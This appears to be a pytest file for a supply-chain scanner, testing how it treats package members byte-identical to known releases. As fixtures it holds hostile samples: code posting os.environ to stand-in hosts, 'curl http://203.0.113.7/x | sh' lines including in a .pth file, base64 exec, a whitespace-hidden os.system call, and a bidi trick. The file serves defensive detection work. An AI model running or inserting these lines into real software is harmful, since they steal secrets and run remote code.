"""What becomes of a member that is byte-identical to one in an established release, and what does not change by it."""

import struct
from collections.abc import Container, Mapping
from dataclasses import replace

import pytest
from trees import REF, member, tree_of

from watchhouse.evidence.catalogue import CATALOGUE
from watchhouse.evidence.examine import examine
from watchhouse.evidence.facts.assemble import assemble
from watchhouse.evidence.facts.package import PackageFacts
from watchhouse.evidence.likeness.worth import worth_knowing
from watchhouse.evidence.views.lines import code_members
from watchhouse.model.artifact import ArtifactKind, ArtifactTree, MemberPath
from watchhouse.model.evidence import Gap, GapReason, Sighting
from watchhouse.model.identity import Sha256

Files = Mapping[str, str | bytes]

METADATA = "Metadata-Version: 2.1\nName: garden\nVersion: 1.0\nSummary: paths and beds\n"
ABOUT: Files = {"garden-1.0.dist-info/METADATA": METADATA}
SENDS = "import os, requests\nrequests.post('https://x.example/', json=dict(os.environ))\n"
SLY = SENDS.replace("example/", "example")
"""The same, to an address that is no sign of the first pass."""
HELPER = (
    "import requests\n\n\ndef send(data):\n    return requests.post('https://sink.invalid/', json=data)\n"
)
FETCHES = "#!/bin/sh\ncurl http://203.0.113.7/x | sh\n"
HIDDEN = "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n"
PUSHED = "x = 1" + " " * 200 + "; __import__('os').system('id')\n"
ELF = (
    b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 0, 0, 0, 64, 0, 0, 0, 0, 0)
)
BIDI = "access = 'user\u202e \u2066# only for admins\u2069 \u2066'\nif access: pass\n"


def digests(*contents: str | bytes) -> frozenset[Sha256]:
    return frozenset(member("m", content).sha256 for content in contents)


def read_of(
    files: Files,
    known: Container[Sha256],
    kind: ArtifactKind = ArtifactKind.WHEEL,
) -> set[str]:
    """Return the paths of all code that is read."""
    facts, _ = assemble(tree_of(files, kind), REF, known)
    return {str(code.path) for code in facts.code if code.calls or code.texts}


def sightings(files: Files, known: Container[Sha256]) -> set[tuple[str, str]]:
    """Return every sighting as (detector, path)."""
    _, evidence = examine(tree_of({**files, **ABOUT}), REF, CATALOGUE, known=known)
    return {(one.detector, one.location.path) for one in evidence if isinstance(one, Sighting)}


@pytest.mark.parametrize("text", [SENDS, HIDDEN, PUSHED, BIDI], ids="sends hidden pushed bidi".split())
def test_a_known_module_is_not_read_and_not_accused(text: str) -> None:
    """What a release that everybody has had for months says is no news, whatever it looks like."""
    files = {"garden/a.py": text}
    accused = {path for _, path in sightings(files, frozenset())}
    assert "garden/a.py" in accused
    assert "garden/a.py" not in {path for _, path in sightings(files, digests(text))}
    assert read_of(files, digests(text)) == set()


@pytest.mark.parametrize("text", [SENDS, HIDDEN, PUSHED, BIDI], ids="sends hidden pushed bidi".split())
@pytest.mark.parametrize("place", [0, -1])
def test_one_changed_byte_makes_it_new(text: str, place: int) -> None:
    """An index of digests knows a file or does not; nothing is almost known."""
    raw = text.encode()
    changed = {0: b"\n" + raw, -1: raw + b" "}[place]
    assert sightings({"garden/a.py": changed}, digests(text)) == sightings(
        {"garden/a.py": changed}, frozenset()
    )
    assert "garden/a.py" in {path for _, path in sightings({"garden/a.py": changed}, digests(text))}


def test_a_new_module_that_sends_through_a_known_helper_is_seen() -> None:
    """A known helper is still there to be followed: what flows into it is the new file's doing."""
    new = "import os\nfrom garden.helper import send\nsend(dict(os.environ))\n"
    files = {"garden/helper.py": HELPER, "garden/__init__.py": new}
    found = sightings(files, digests(HELPER))
    assert found & {("exfil-flow", "garden/helper.py"), ("environment-theft", "garden/helper.py")}
    assert found == sightings(files, frozenset())


def test_a_new_module_that_sends_through_a_large_known_helper_is_seen() -> None:
    """A known module that would have been read in any package is followed whatever its size."""
    large = (
        HELPER
        + "def host():\n    import os, socket\n    return os.environ, socket.gethostname()\n"
        + ("# about beds and borders\n" * 4_000)
    )
    new = "import os\nfrom garden.helper import send\nsend(dict(os.environ))\n"
    files = {"garden/helper.py": large, "garden/__init__.py": new}
    assert ("exfil-flow", "garden/helper.py") in sightings(files, digests(large))


def test_what_nobody_calls_in_a_known_helper_is_not_read() -> None:
    """Who imports one function of a known module answers for that one."""
    helper = (
        "import os, requests\n\n\ndef tells():\n"
        "    requests.post('https://x.example/', json=dict(os.environ))\n\n\ndef idle():\n    return 1\n"
    )
    new = "import os\nfrom garden.helper import idle\nos.system('git status %s' % idle())\n"
    files = {"garden/helper.py": helper, "garden/__init__.py": new}
    assert "garden/helper.py" in {path for _, path in sightings(files, frozenset())}
    assert "garden/helper.py" not in {path for _, path in sightings(files, digests(helper))}


def test_a_twin_of_a_known_member_is_read() -> None:
    """Two members of one path are two: the known one does not shield the other."""
    for order in ((HELPER, SLY), (SLY, HELPER)):
        members = tuple(member("garden/a.py", text) for text in order)
        tree = replace(tree_of(ABOUT), members=(*members, *tree_of(ABOUT).members))
        _, evidence = examine(tree, REF, CATALOGUE, known=digests(HELPER))
        assert "exfil-flow" in {one.detector for one in evidence if isinstance(one, Sighting)}


@pytest.mark.parametrize("first", ["known", "new"])
def test_a_function_of_a_twin_that_nobody_calls_is_read(first: str) -> None:
    """A known twin does not take the functions of the other with it."""
    waits = SLY.replace("requests.post", "\n\ndef later():\n    requests.post")
    twins = {"known": member("garden/a.py", HELPER), "new": member("garden/a.py", waits)}
    members = (twins.pop(first), *twins.values())
    tree = replace(tree_of(ABOUT), members=(*members, *tree_of(ABOUT).members))
    _, evidence = examine(tree, REF, CATALOGUE, known=digests(HELPER))
    assert "exfil-flow" in {one.detector for one in evidence if isinstance(one, Sighting)}


def test_detectors_of_raw_text_are_shown_new_members_only() -> None:
    """Also where two share a path: the new one is shown, the known one is not."""
    members = (member("garden/a.py", HELPER), member("garden/a.py", SLY), member("garden/b.py", HELPER))
    facts, _ = assemble(replace(tree_of({}), members=members), REF, digests(HELPER))
    assert list(code_members(facts)) == [members[1]]


def test_a_known_module_does_not_stand_before_a_new_one_of_its_name() -> None:
    """Python imports the folder and not the file beside it; so is it read."""
    files = {
        "garden/helper/__init__.py": "KIND = 'a text of the new one'\n\n\ndef send(data):\n    return data\n",
        "garden/helper.py": HELPER,
        "garden/__init__.py": "import os\nfrom garden.helper import send\nsend(dict(os.environ))\n",
    }
    assert read_of(files, digests(HELPER)) == {"garden/helper/__init__.py"}


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("garden-1.0/setup.py", ArtifactKind.SDIST),
        ("sitecustomize.py", ArtifactKind.WHEEL),
        ("garden-1.0/backend/build.py", ArtifactKind.SDIST),
    ],
)
def test_what_installs_or_starts_something_is_read_whoever_wrote_it(path: str, kind: ArtifactKind) -> None:
    """Somebody else's setup.py under a new name compiles or fetches for somebody new."""
    backend = "[build-system]\nrequires = []\nbuild-backend = 'build'\nbackend-path = ['backend']\n"
    files = {path: SENDS, "garden-1.0/pyproject.toml": backend}
    assert path in read_of(files, digests(SENDS), kind)


def test_a_start_up_line_is_read_whoever_wrote_it() -> None:
    """A .pth file runs at every start of the interpreter."""
    line = "import os; os.system('curl http://203.0.113.7/x | sh')\n"
    assert ("pth-exec", "garden.pth") in sightings({"garden.pth": line}, digests(line))


@pytest.mark.parametrize(
    "name", ["webhook = 'https://x.example/api/webhooks/1/x'", "host = 'http://203.0.113.7'"]
)
def test_nothing_is_passed_over_beside_a_new_module_that_names_a_destination(name: str) -> None:
    """A known sender sends where a new constant tells it to: then it is read like any other."""
    sender = "import os, requests\nfrom garden.where import *\nrequests.post(host, json=dict(os.environ))\n"
    files = {"garden/sender.py": sender, "garden/where.py": name + "\n"}
    assert "garden/sender.py" in read_of(files, digests(sender))
    assert "garden/sender.py" not in read_of(files | {"garden/where.py": "host = 1\n"}, digests(sender))


def test_a_known_script_is_not_read() -> None:
    """Scripts of other languages cost one lookup as well."""
    files = {"garden/get.sh": FETCHES}
    assert "garden/get.sh" in read_of(files, frozenset())
    assert read_of(files, digests(FETCHES)) == set()
    assert "garden/get.sh" not in {path for _, path in sightings(files, digests(FETCHES))}


def natives(files: Files, known: Container[Sha256]) -> tuple[PackageFacts, list[Gap]]:
    facts, gaps = assemble(tree_of({**files, **ABOUT}), REF, known)
    return facts, [gap for gap in gaps if gap.reason is GapReason.OPAQUE]


def test_a_known_native_member_hides_nothing() -> None:
    """Its machine code is still not read, and the verdict says so; but it is no place to hide in."""
    files = {"garden/tool": ELF}
    _, before = natives(files, frozenset())
    facts, after = natives(files, digests(ELF))
    assert [gap.hides for gap in before] == [True]
    assert [(gap.hides, "known" in gap.detail) for gap in after] == [(False, True)]
    assert [(one.path, one.imports, one.strings) for one in facts.binaries] == [
        ("garden/tool", frozenset(), ())
    ]


def test_a_known_program_is_accused_of_its_name_only() -> None:
    """That a program is there is no news; that it is called a picture is this package's doing."""
    assert ("dropped-executable", "garden/tool.exe") in sightings({"garden/tool.exe": ELF}, frozenset())
    assert "garden/tool.exe" not in {path for _, path in sightings({"garden/tool.exe": ELF}, digests(ELF))}
    assert ("dropped-executable", "garden/bed.png") in sightings({"garden/bed.png": ELF}, digests(ELF))


def test_the_same_content_among_tests_is_not_known() -> None:
    """Known is a member where modules lie; elsewhere its bytes are scanned as always."""
    facts, _ = assemble(tree_of({"garden/a.py": SENDS, "tests/test_a.py": SENDS}), REF, digests(SENDS))
    assert facts.known == {(MemberPath("garden/a.py"), *digests(SENDS))}
    assert set(facts.hints) == {"tests/test_a.py"}


def sdist(files: Files) -> ArtifactTree:
    return tree_of({f"garden-1.0/{path}": content for path, content in files.items()}, ArtifactKind.SDIST)


def test_an_entry_is_worth_its_bytes_only_where_it_saves_a_reading() -> None:
    """Modules and scripts with signs and native members are; papers, tests, examples and installers are not."""
    dear: dict[str, str | bytes] = {
        "garden/a.py": SENDS,
        "garden/get.sh": FETCHES,
        "garden/tool": ELF,
        "garden/odd.py": "p\u0430th = 1\n",
    }
    other: dict[str, str | bytes] = {
        "setup.py": SENDS + "#1\n",
        "garden.pth": "import os; os.system('id')\n",
        "tests/test_a.py": SENDS + "#2\n",
        "examples/a.py": SENDS + "#3\n",
        "README.md": "curl http://203.0.113.7/x | sh\n",
        "garden/plain.py": "x = 1\n",
        "garden/data.json": '{"curl": "http://203.0.113.7/x"}',
    }
    assert set(worth_knowing(sdist(dear | other), "garden")) == digests(*dear.values())
